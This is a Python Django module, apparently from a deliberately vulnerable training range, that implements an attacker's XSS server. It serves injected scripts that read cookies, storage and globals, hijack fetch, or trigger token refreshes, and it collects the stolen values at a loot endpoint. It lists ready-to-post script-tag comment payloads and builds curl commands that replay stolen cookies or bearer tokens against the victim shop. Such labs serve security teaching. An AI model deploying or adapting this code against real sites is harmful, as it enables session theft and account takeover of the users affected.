"""The attacker's server for XSS. It serves the scripts and collects what they send."""

import json
import re
import shlex
from collections import deque
from pathlib import Path

from django.http import Http404, HttpRequest, HttpResponse
from django.shortcuts import render
from django.urls import path

from attack_range import attempts, hosts
from attack_range.weak.xss import ROOT

SCRIPTS = Path(__file__).parent / "xss_scripts"
PAYLOADS = {
    "read": "Reads every storage, every global variable and document.cookie",
    "patch": "Replaces fetch by its own function, and waits for the page's next call",
    "ride": "Steals nothing, but changes the delivery address from inside the page",
    "refresh": "Calls the refresh endpoint, to which the browser sends the cookie",
}
VENDOR = "vendor"
GOODS_MAX, LENGTH_MAX = 30, 8000
# What arrived without an attempt, which a person has stolen by hand. The latest comes first.
GOODS: deque[dict[str, str]] = deque(maxlen=GOODS_MAX)
# Any page on the web can send a report here, and a person may copy parts of it into a shell.
SAFE = re.compile(r"[\w./ -]{1,4000}")


def script(name: str, nonce: str, inside: bool = False) -> str:
    """The text of an attacker's script that reports to this server for the attempt.

    `inside` is for a script that is assumed to run in the project's own page. Such a script does not wait for states of
    the shop's page. It sends its report by navigating to this server, because the policy refuses every other way.
    """
    constants = {
        "HOME": f"{hosts.origin(hosts.ATTACKER)}/xss/loot?attempt={nonce}",
        "IS_INSIDE_OURS": inside,
        "REFRESH": "/jwt/auth/refresh" if inside else "refresh",
    }
    lines = [f"const {key} = {json.dumps(value)};" for key, value in constants.items()]
    return "\n".join(["(() => {", *lines, _source("common"), _source(name), "})();"])


def _source(name: str) -> str:
    return (SCRIPTS / f"{name}.js").read_text()


def serve(request: HttpRequest, name: str) -> HttpResponse:
    """A script that a page of another site can load. 404 for an unknown name."""
    if name not in (*PAYLOADS, VENDOR):
        raise Http404
    text = script(name, request.GET.get("attempt", ""))
    return HttpResponse(text, "text/javascript", headers={"Cache-Control": "no-store"})


def loot(request: HttpRequest) -> HttpResponse:
    """Stores what a script sends in the body, or in the query when the script navigates here."""
    text = request.GET.get("goods") or request.body.decode(errors="replace")
    attempt = attempts.find(request.GET.get("attempt", ""))
    if attempt and len(attempt.loot) < GOODS_MAX:
        attempt.loot.append(text[:LENGTH_MAX])
    elif not attempt and (goods := _read(text[:LENGTH_MAX])):
        GOODS.extendleft(goods)
    return HttpResponse("Thank you.")


def _read(text: str) -> list[dict[str, str]]:
    try:
        report = json.loads(text)
        goods = [
            {"page": report["page"]} | {key: one[key] for key in ("where", "name", "value")} for one in report["found"]
        ]
        return [one for one in goods if all(map(SAFE.fullmatch, one.values()))]
    except (ValueError, KeyError, TypeError, RecursionError):
        return []


def ran(request: HttpRequest) -> HttpResponse:
    """A payload that runs requests this address. The attempt's record of the request shows that it ran."""
    return HttpResponse(status=204)


def page(request: HttpRequest) -> HttpResponse:
    """For a person who attacks by hand: comments to send, and what was stolen."""
    home = f"{hosts.origin(hosts.ATTACKER)}/xss/"
    comments = [(what, f'Lovely mug!<script src="{home}{name}.js"></script>') for name, what in PAYLOADS.items()]
    victim = hosts.origin(hosts.VICTIM)
    context = {"comments": comments, "goods": [_used(one, victim) for one in GOODS], "shop": f"{victim}{ROOT}/"}
    return render(request, "attack_range/weak/attacker.html", context)


def _used(one: dict[str, str], victim: str) -> dict[str, str]:
    header = f"Authorization: Bearer {one['value']}"
    if one["where"] == "document.cookie":
        header = f"Cookie: {one['name']}={one['value']}"
    url = f"{victim}{one['page'].removesuffix('vendor/')}whoami"
    return one | {"command": shlex.join(["curl", "-i", "-H", header, url])}


urlpatterns = [
    path("", page),
    path("loot", loot),
    path("ran", ran),
    path("<slug:name>.js", serve),
]
